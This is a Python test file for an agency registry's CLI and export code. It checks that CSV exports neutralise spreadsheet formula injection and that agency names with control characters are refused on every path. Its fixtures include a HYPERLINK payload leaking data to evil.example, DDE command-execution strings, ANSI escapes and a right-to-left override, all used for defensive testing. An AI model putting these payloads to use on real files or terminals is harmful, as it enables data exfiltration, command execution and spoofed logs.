"""Promise: exported CSV never makes a spreadsheet evaluate a cell, and no agency
name carries control characters.

Attackers: (1) a registry administrator (or a poisoned official list fed to
``kyso admin agency import``) who names an agency ``=HYPERLINK(…)`` or
``@SUM(1+1)*cmd|' /C calc'!A0``: when a colleague opens the exported agency
list or the monthly report in Excel or LibreOffice, the cell runs as a formula
(data exfiltration through links, DDE command execution). OWASP "CSV
Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return must be neutralised. Exports must still import back to the same names.
(2) the same person storing control characters in a name: ANSI escape
sequences that rewrite an operator's terminal when ``kyso admin agency list``
prints it, line breaks that forge extra lines in logs and reports, bidi
overrides that make one name display as another. Every path that stores a
name must refuse them: create (registry and store), rename, move, merge,
split, import (CSV and JSON).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner

from registry.agencies.lifecycle import AgencyRegistry
from registry.db.store import RegistryStore
from signer.errors import InvalidRequest
from tests.helpers import fresh_database_url

D0 = date(2020, 1, 1)
JULY = date(2025, 7, 1)
TODAY = date(2026, 11, 23)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Tài chính")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted on purpose",  # a legitimate leading apostrophe must survive the escape
    "''two apostrophes",
    "Sở Tài chính =1+1",  # not at the start: harmless, left alone
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CONTROL = [
    "Sở\x1b[2J\x1b[31mTài chính",  # ANSI escape: clears an operator's screen
    "Sở Tài chính\nSở Giả mạo",  # forged second line
    "Sở\rTài chính",
    "Sở\tTài chính",
    "Sở\x00Tài chính",
    "Sở\x7fTài chính",
    "Sở\x85Tài chính",  # C1 NEL
    "Sở\x9b31mTài chính",  # C1 CSI
    "Sở\u2028Tài chính",  # LINE SEPARATOR
    "Sở \u202eníhc iàT",  # RIGHT-TO-LEFT OVERRIDE (Trojan Source)
]


@pytest.fixture
def reg(store: RegistryStore) -> AgencyRegistry:
    return AgencyRegistry(store.engine, today=TODAY)


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"a spreadsheet would evaluate {cell!r}"


def test_export_neutralises_formulas_and_round_trips(
    reg: AgencyRegistry, tmp_path_factory: pytest.TempPathFactory
) -> None:
    codes = [f"H{40 + i}" for i in range(len(FORMULAS))]
    for code, name in zip(codes, FORMULAS, strict=True):
        reg.create(code, name, valid_from=D0)
    for include_closed in (False, True):
        exported = reg.export_list("csv", include_closed=include_closed)
        _assert_inert(_cells(exported))
    exported = reg.export_list("csv")
    # The export imports back as "nothing changed" here, and recreates the same names
    # in an empty registry.
    plan = reg.import_list(exported, "csv", dry_run=True)
    assert plan.ok and plan.rename == () and len(plan.unchanged) == len(codes), plan
    other = RegistryStore(fresh_database_url(tmp_path_factory.mktemp("copy")))
    other.migrate()
    try:
        copy = AgencyRegistry(other.engine, today=TODAY)
        assert copy.import_list(exported, "csv").applied
        assert [copy.get(c).name for c in codes] == FORMULAS
        assert copy.export_list("csv") == exported
    finally:
        other.close()
    # JSON is not evaluated by spreadsheets: it carries the names as they are.
    assert [r["name"] for r in json.loads(reg.export_list("json"))] == FORMULAS


def test_hand_written_csv_with_a_formula_is_stored_as_written(reg: AgencyRegistry) -> None:
    """An official list that was never exported by kyso: no escape to undo."""
    plan = reg.import_list(b"code,name\nH40,=1+1\nH41,'=1+1\n", "csv")
    assert plan.applied
    assert reg.get("H40").name == "=1+1"
    assert reg.get("H41").name == "=1+1"  # the documented escape: one leading ' is dropped
    _assert_inert(_cells(reg.export_list("csv")))


@pytest.mark.parametrize("name", CONTROL)
def test_every_path_refuses_control_characters(
    reg: AgencyRegistry, store: RegistryStore, name: str
) -> None:
    reg.create("H10", "Tỉnh A", valid_from=D0)
    reg.create("H11", "Tỉnh B", valid_from=D0)
    reg.create("H12", "Tỉnh C", valid_from=D0)
    reg.create("H10.1", "Sở A", valid_from=D0)
    attempts: dict[str, Any] = {
        "create": lambda: reg.create("H20", name, valid_from=D0),
        "create (no parent)": lambda: reg.create("H21", name, require_parent=False),
        "rename": lambda: reg.rename("H10", name, effective=JULY),
        "move": lambda: reg.move("H10.1", "H11.5", effective=JULY, name=name),
        "merge (new code)": lambda: reg.merge(["H11"], "H90", effective=JULY, name=name),
        "merge (rename)": lambda: reg.merge(["H11"], "H12", effective=JULY, name=name),
        "split": lambda: reg.split("H12", [("H91", "Tỉnh D"), ("H92", name)],
                                   effective=JULY),
    }
    for path, attempt in attempts.items():
        with pytest.raises(InvalidRequest) as exc:
            attempt()
        assert "control character" in exc.value.message, (path, exc.value.message)
        assert "U+" in exc.value.message, (path, exc.value.message)  # names the character
    # nothing was written by any of them
    assert {a.code: a.name for a in reg.list_all(include_closed=True)} == {
        "H10": "Tỉnh A", "H11": "Tỉnh B", "H12": "Tỉnh C", "H10.1": "Sở A"}

    buf = io.StringIO()
    # QUOTE_ALL: csv.writer leaves a lone CR unquoted, and the file would just be torn
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(
        [["code", "name"], ["H30", "Tỉnh E"], ["H31", name]])
    for fmt, content in (
        ("csv", buf.getvalue().encode()),
        ("json", json.dumps([{"code": "H30", "name": "Tỉnh E"},
                             {"code": "H31", "name": name}], indent=0).encode()),
    ):
        plan = reg.import_list(content, fmt)
        assert not plan.applied, fmt
        assert [(p.field, "control character" in p.reason) for p in plan.problems] == [
            ("name", True)], (fmt, plan.problems)
    assert "H30" not in {a.code for a in reg.list_all()}


def test_report_csv_neutralises_formulas(monkeypatch: pytest.MonkeyPatch,
                                         tmp_path: Path) -> None:
    """`kyso admin report --csv`, end to end in the CLI; the server's answer is faked
    (an agency named before names were checked, or by a hostile registry admin)."""
    from clients.cli import main
    from clients.client import KysoClient

    rows = [SimpleNamespace(agency_code="000.00.00.H13", agency_name=n, document_type="CV",
                            signatures=1, timestamped=0) for n in FORMULAS]
    resp = SimpleNamespace(month="2026-11", rows=rows, signatures=len(rows), timestamps=0,
                           load_test_signatures=0)
    monkeypatch.setattr(KysoClient, "monthly_report", lambda self, *a, **k: resp)
    out = tmp_path / "r.csv"
    r = CliRunner().invoke(main, ["admin", "report", "--month", "2026-11", "--csv", str(out)])
    assert r.exit_code == 0, (r.output, r.exception)
    cells = _cells(out.read_bytes())
    _assert_inert(cells)
    assert cells[0] == ["agency_code", "agency_name", "document_type", "signatures",
                        "timestamped"]
    assert len(cells) == 1 + len(FORMULAS)
